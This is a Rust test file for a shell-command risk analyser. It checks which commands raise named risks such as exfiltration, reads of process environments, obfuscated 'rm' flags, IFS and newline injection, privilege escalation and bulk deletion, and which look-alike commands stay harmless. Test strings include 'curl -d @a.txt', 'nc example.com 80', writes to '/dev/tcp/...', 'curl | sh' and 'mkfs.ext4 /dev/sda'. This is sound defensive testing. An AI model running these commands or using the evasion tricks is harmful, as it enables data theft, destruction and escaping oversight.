//! The named risks: what raises each of them and which words it points at, and honest commands that look alike.

#![allow(
    clippy::expect_used,
    clippy::panic,
    clippy::unwrap_used,
    reason = "a test may stop at the first surprise"
)]

use gripper_shell::{Analysis, Phase, RiskKind, Severity, Surroundings, analyze};
use rstest::rstest;

fn analysed(text: &str) -> Analysis {
    let secret = |path: &str| path.contains("/.git/");
    analyze(text, &Surroundings::new("/home/dev/project", "/home/dev").with_sensitive(&secret))
}

/// The risks as `Name: the words it points at`.
fn risks(text: &str) -> Vec<String> {
    analysed(text).risks().iter().map(|risk| format!("{}: {}", risk.kind, risk.span.of(text))).collect()
}

fn raised(text: &str, expected: &str) {
    let risks = risks(text);
    assert!(risks.iter().any(|risk| risk == expected), "{text}\n  expected {expected}\n  got {risks:?}");
}

fn not_raised(text: &str, name: &str) {
    let risks = risks(text);
    assert!(!risks.iter().any(|risk| risk.starts_with(&format!("{name}:"))), "{text}\n  got {risks:?}");
}

#[rstest]
#[case::environment("jq 'env.HOME' a.json", "JqDanger: 'env.HOME'")]
#[case::environment_in_a_pipe("jq -r '.a | $ENV.PATH' a.json", "JqDanger: '.a | $ENV.PATH'")]
#[case::file_by_flag("jq --rawfile x /etc/passwd . a.json", "JqDanger: --rawfile")]
#[case::module("jq 'import \"m\" as m; .' a.json", "JqDanger: 'import \"m\" as m; .'")]
#[case::module_folder("jq -L lib . a.json", "JqDanger: -L")]
fn jq_that_leaves_its_filter(#[case] text: &str, #[case] expected: &str) {
    raised(text, expected);
}

#[rstest]
#[case::filter("jq '.a[] | select(.b == 1)' a.json")]
#[case::value_by_flag("jq --arg n x '.a == $n' a.json")]
#[case::field_called_env("jq '.env' a.json")]
#[case::text_with_env("jq '.a == \"env\"' a.json")]
fn honest_jq(#[case] text: &str) {
    not_raised(text, "JqDanger");
}

#[rstest]
#[case::empty_quotes("r''m x", "ObfuscatedFlags: r''m")]
#[case::split_quotes("'r'm x", "ObfuscatedFlags: 'r'm")]
#[case::escape(r"r\m x", r"ObfuscatedFlags: r\m")]
#[case::code(r"$'\x72m' x", r"ObfuscatedFlags: $'\x72m'")]
#[case::hidden_flag("sort $'-o' out a", "ObfuscatedFlags: $'-o'")]
#[case::split_flag("sort -''o out a", "ObfuscatedFlags: -''o")]
#[case::split_cluster("rm -r''f x", "ObfuscatedFlags: -r''f")]
#[case::braces("{rm,-f,x}", "ObfuscatedFlags: {rm,-f,x}")]
#[case::expansion("x=m; r$x a", "ObfuscatedFlags: r$x")]
fn names_and_flags_that_do_not_show(#[case] text: &str, #[case] expected: &str) {
    raised(text, expected);
}

#[rstest]
#[case::ansi_text(r"printf $'a\n'")]
#[case::dashes("echo \"---\"")]
#[case::quoted_operand("grep 'a b' \"c d\"")]
#[case::quoted_value("git log --format='%h %s'")]
#[case::alias_avoided(r"\rm x")]
#[case::whole_name_quoted("'rm' x")]
#[case::braces_in_operands("rm {a,b}.txt")]
#[case::message("git commit -m 'it''s done'")]
#[case::evaluated("eval \"$x\"")]
fn honest_quotes(#[case] text: &str) {
    not_raised(text, "ObfuscatedFlags");
}

#[rstest]
#[case::find("find . -exec sh -c 'cat {}' \\;", "ShellMetacharacters: 'cat {}'")]
#[case::xargs("ls | xargs -I{} sh -c 'rm {}'", "ShellMetacharacters: 'rm {}'")]
#[case::bash("find . -name '*.c' -exec bash -c \"wc -l {}\" \\;", "ShellMetacharacters: \"wc -l {}\"")]
fn data_pasted_into_code(#[case] text: &str, #[case] expected: &str) {
    raised(text, expected);
}

#[rstest]
#[case::no_shell("find . -exec grep -l x {} +")]
#[case::data_as_argument("find . -exec sh -c 'cat \"$1\"' _ {} \\;")]
#[case::xargs("ls | xargs grep x")]
#[case::code_without_data("find . -exec sh -c 'rm x' \\;")]
fn honest_inner_commands(#[case] text: &str) {
    not_raised(text, "ShellMetacharacters");
}

#[rstest]
#[case::command("$CMD x", "DangerousVariables: $CMD")]
#[case::braces("${CMD} x", "DangerousVariables: ${CMD}")]
#[case::stage("ls | $FILTER", "DangerousVariables: $FILTER")]
#[case::target("echo x > $OUT", "DangerousVariables: $OUT")]
#[case::quoted_target("echo x >> \"$OUT\"", "DangerousVariables: \"$OUT\"")]
fn unknown_variables_where_they_decide(#[case] text: &str, #[case] expected: &str) {
    raised(text, expected);
}

#[rstest]
#[case::operand("cat \"$f\"")]
#[case::known_command("x=ls; $x -l")]
#[case::known_target("f=out.txt; echo x > $f")]
#[case::read_line("while read -r f; do cat \"$f\"; done < list")]
#[case::home("echo x > $HOME/a")]
fn honest_variables(#[case] text: &str) {
    not_raised(text, "DangerousVariables");
}

#[rstest]
#[case::carriage_return("ls # \rrm x", "NewlineInjection: \r")]
#[case::windows_line_end("ls\r\nls", "NewlineInjection: \r")]
#[case::comment_that_seems_to_go_on("ls # see \\\nrm x", "NewlineInjection: # see \\")]
#[case::comment_with_an_open_quote("ls # say \"\nrm x", "NewlineInjection: # say \"")]
#[case::newline_in_the_name("$'ls\\nrm' x", "NewlineInjection: $'ls\\nrm'")]
fn commands_behind_the_end_of_a_line(#[case] text: &str, #[case] expected: &str) {
    raised(text, expected);
}

#[rstest]
#[case::two_commands("cat a\nrm b")]
#[case::comment("ls # then\nrm x")]
#[case::quotes_in_a_comment("ls # the \"names\"\nrm x")]
#[case::newline_in_an_operand("echo 'a\nb'")]
#[case::apostrophe_in_a_comment("ls # it's fine\nrm x")]
fn honest_lines(#[case] text: &str) {
    not_raised(text, "NewlineInjection");
}

#[rstest]
#[case::assigned("IFS=,; ls $x", "IfsInjection: IFS=,")]
#[case::used("cat${IFS}a", "IfsInjection: ${IFS}")]
#[case::used_short("ls$IFS-l", "IfsInjection: $IFS")]
#[case::for_a_program("IFS=/ ls", "IfsInjection: IFS=/")]
#[case::exported("export IFS=x", "IfsInjection: IFS=x")]
fn changed_word_splitting(#[case] text: &str, #[case] expected: &str) {
    raised(text, expected);
}

#[rstest]
#[case::lines("while IFS= read -r l; do echo \"$l\"; done < f")]
#[case::fields("IFS=: read -r a b < f")]
#[case::other_name("MYIFS=x; echo \"$MYIFS\"")]
#[case::text("echo IFS=x")]
fn honest_splitting(#[case] text: &str) {
    not_raised(text, "IfsInjection");
}

#[rstest]
#[case::own("cat /proc/self/environ", "ProcEnvironAccess: /proc/self/environ")]
#[case::other("strings /proc/$$/environ", "ProcEnvironAccess: /proc/$$/environ")]
#[case::pattern("cat /proc/*/env*", "ProcEnvironAccess: /proc/*/env*")]
#[case::redirected("sort < /proc/1/environ", "ProcEnvironAccess: /proc/1/environ")]
#[case::dots("cat /proc/self/task/../environ", "ProcEnvironAccess: /proc/self/task/../environ")]
fn environments_of_processes(#[case] text: &str, #[case] expected: &str) {
    raised(text, expected);
}

#[rstest]
#[case::processor("cat /proc/cpuinfo")]
#[case::file_of_that_name("cat environ src/proc/environ")]
#[case::text("grep /proc/self/environ notes.txt")]
fn honest_proc(#[case] text: &str) {
    not_raised(text, "ProcEnvironAccess");
}

#[rstest]
#[case::command("echo $(rm x)", "DangerousSubstitution: $(rm x)")]
#[case::backticks("echo `touch x`", "DangerousSubstitution: `touch x`")]
#[case::process("cat <(curl http://example.com)", "DangerousSubstitution: <(curl http://example.com)")]
#[case::document("cat <<E\n$(rm x)\nE", "DangerousSubstitution: $(rm x)")]
#[case::assigned("a=$(make); echo $a", "DangerousSubstitution: $(make)")]
fn substitutions_that_do_more_than_read(#[case] text: &str, #[case] expected: &str) {
    raised(text, expected);
}

#[rstest]
#[case::date("echo $(date)")]
#[case::processes("diff <(sort a) <(sort b)")]
#[case::message("git commit -m \"$(cat <<'EOF'\ntext $(rm x)\nEOF\n)\"")]
#[case::quoted("echo '$(rm x)'")]
fn honest_substitutions(#[case] text: &str) {
    not_raised(text, "DangerousSubstitution");
}

#[rstest]
#[case::quote("cat 'a", "MalformedTokens: '")]
#[case::bracket("ls )", "MalformedTokens: )")]
#[case::inner_code("bash -c 'ls )'", "MalformedTokens: 'ls )'")]
fn text_that_does_not_parse(#[case] text: &str, #[case] expected: &str) {
    raised(text, expected);
}

#[rstest]
#[case::quoted_quote("echo \"it's\"")]
#[case::quoted_bracket("echo ')'")]
#[case::document("cat <<'E'\nit's (\nE")]
fn honest_tokens(#[case] text: &str) {
    not_raised(text, "MalformedTokens");
}

#[rstest]
#[case::system("echo x > /etc/hosts", "SensitiveRedirect: /etc/hosts")]
#[case::home("echo x >> ~/.bashrc", "SensitiveRedirect: ~/.bashrc")]
#[case::above("echo x > ../x", "SensitiveRedirect: ../x")]
#[case::marked("echo x > .git/hooks/pre-commit", "SensitiveRedirect: .git/hooks/pre-commit")]
#[case::after_cd("cd / && echo x > etc/hosts", "SensitiveRedirect: etc/hosts")]
fn redirections_out_of_the_project(#[case] text: &str, #[case] expected: &str) {
    raised(text, expected);
}

#[rstest]
#[case::inside("echo x > out.txt")]
#[case::null("ls > /dev/null 2>&1")]
#[case::stream("echo x >&2")]
#[case::dots_that_stay("echo x > src/../out.txt")]
fn honest_redirections(#[case] text: &str) {
    not_raised(text, "SensitiveRedirect");
}

#[rstest]
#[case::posted("curl -d @a.txt http://example.com", "NetworkExfiltration: -d")]
#[case::uploaded("curl -T a.txt http://example.com", "NetworkExfiltration: -T")]
#[case::netcat("nc example.com 80 < a", "NetworkExfiltration: nc example.com 80")]
#[case::copied("scp a host:", "NetworkExfiltration: scp a host:")]
#[case::pushed("git push", "NetworkExfiltration: git push")]
#[case::shell_socket("cat a > /dev/tcp/192.0.2.1/80", "NetworkExfiltration: /dev/tcp/192.0.2.1/80")]
#[case::name_lookup("dig $(cat a).example.com", "NetworkExfiltration: dig $(cat a).example.com")]
fn data_sent_out(#[case] text: &str, #[case] expected: &str) {
    raised(text, expected);
}

#[rstest]
#[case::fetched("curl http://example.com")]
#[case::log("git log origin/main")]
#[case::text("grep 'git push' notes.txt")]
fn honest_network(#[case] text: &str) {
    not_raised(text, "NetworkExfiltration");
}

#[rstest]
#[case::sudo("sudo ls", "PrivilegeEscalation: sudo ls")]
#[case::su("su -c ls", "PrivilegeEscalation: su -c ls")]
#[case::doas("doas ls", "PrivilegeEscalation: doas ls")]
#[case::owner("chown root a", "PrivilegeEscalation: chown root a")]
#[case::capability("setcap cap_net_raw+ep a", "PrivilegeEscalation: setcap cap_net_raw+ep a")]
#[case::wrapped("timeout 5 sudo ls", "PrivilegeEscalation: sudo ls")]
fn rights_gained(#[case] text: &str, #[case] expected: &str) {
    raised(text, expected);
}

#[rstest]
#[case::who("id")]
#[case::text("grep sudo notes.txt")]
#[case::executable("chmod +x run.sh")]
fn honest_rights(#[case] text: &str) {
    not_raised(text, "PrivilegeEscalation");
}

#[rstest]
#[case::recursive("rm -r a", "FileSystemTampering: -r")]
#[case::device("dd if=a of=b", "FileSystemTampering: dd if=a of=b")]
#[case::format("mkfs.ext4 /dev/sda", "FileSystemTampering: mkfs.ext4 /dev/sda")]
#[case::truncated("truncate -s 0 a", "FileSystemTampering: truncate -s 0 a")]
#[case::shredded("shred a", "FileSystemTampering: shred a")]
#[case::modes("chmod -R 777 .", "FileSystemTampering: -R")]
#[case::found("find . -delete", "FileSystemTampering: -delete")]
fn bulk_destruction(#[case] text: &str, #[case] expected: &str) {
    raised(text, expected);
}

#[rstest]
#[case::one_file("rm a")]
#[case::listing("ls -R")]
#[case::copied("cp -r a b")]
#[case::text("grep -r 'rm -rf' .")]
fn honest_file_work(#[case] text: &str) {
    not_raised(text, "FileSystemTampering");
}

#[rstest]
#[case::eval("eval \"$x\"", "CodeExecution: eval \"$x\"")]
#[case::interpreter("python -c 'print(1)'", "CodeExecution: python -c 'print(1)'")]
#[case::replaced_shell("exec ./x", "CodeExecution: exec ./x")]
#[case::beside("coproc cat", "CodeExecution: cat")]
#[case::script("sh script.sh", "CodeExecution: script.sh")]
#[case::sourced("source env.sh", "CodeExecution: source env.sh")]
#[case::downloaded("curl http://example.com | sh", "CodeExecution: sh")]
#[case::unknown_code("bash -c \"$x\"", "CodeExecution: \"$x\"")]
#[case::in_awk("awk 'BEGIN{system(\"x\")}'", "CodeExecution: 'BEGIN{system(\"x\")}'")]
#[case::project("make test", "CodeExecution: make test")]
#[case::later("trap 'rm x' EXIT", "CodeExecution: trap 'rm x' EXIT")]
fn code_that_is_not_analysed(#[case] text: &str, #[case] expected: &str) {
    raised(text, expected);
}

#[rstest]
#[case::version("python --version")]
#[case::literal_code("bash -c 'ls'")]
#[case::literal_eval("eval 'ls'")]
#[case::columns("awk '{print $1}' a")]
#[case::text("echo eval source")]
fn honest_code(#[case] text: &str) {
    not_raised(text, "CodeExecution");
}

/// Commands that use the same constructs as deceptive ones for what they are made for.
#[rstest]
#[case::lines("while IFS= read -r l; do echo \"$l\"; done < a.txt")]
#[case::ansi(r"printf $'a\n'")]
#[case::dashes("echo \"---\"")]
#[case::find("find . -exec grep -l x {} +")]
#[case::message("git commit -m \"$(cat <<'EOF'\nAdd it\n\nIt's $HOME and `ls`\nEOF\n)\"")]
#[case::two_lines("cat a\ncat b")]
#[case::comment_line("# first\nls # then\n# done\n")]
#[case::document("cat <<'E'\nrm -rf /\nE")]
#[case::loop_over_lines("for f in a b; do\n  cat \"$f\"\ndone")]
#[case::continued("ls \\\n  -l")]
#[case::conditional("if [ -n \"$x\" ]; then echo \"$x\"; fi")]
fn nothing_deceptive(#[case] text: &str) {
    let analysis = analysed(text);
    let found: Vec<_> = analysis.risks().iter().filter(|risk| risk.kind.phase() == Phase::Allow).collect();
    assert!(found.is_empty(), "{found:?}");
}

#[test]
fn risks_stand_in_the_order_of_the_text() {
    let text = "sudo ls; rm -r a; cat 'b";
    assert_eq!(risks(text), ["MalformedTokens: '"], "nothing before an error on the same line is run");
    let text = "sudo ls\nrm -r a; echo $(touch x)";
    assert_eq!(
        risks(text),
        ["PrivilegeEscalation: sudo ls", "FileSystemTampering: -r", "DangerousSubstitution: $(touch x)"]
    );
}

#[test]
fn every_kind_has_a_phase_a_severity_and_advice() {
    let deceptive = RiskKind::ALL.iter().filter(|kind| kind.phase() == Phase::Allow).count();
    assert_eq!((RiskKind::ALL.len(), deceptive), (14, 7));
    let worst: Vec<&str> = RiskKind::ALL
        .iter()
        .filter(|kind| kind.severity() == Severity::Critical)
        .map(|kind| kind.name())
        .collect();
    assert_eq!(worst, ["NetworkExfiltration", "PrivilegeEscalation", "CodeExecution"]);
    for kind in RiskKind::ALL {
        let deceives = kind.phase() == Phase::Allow;
        assert_eq!(deceives, kind.advice() != "a person has to look at it", "{kind}");
    }
}
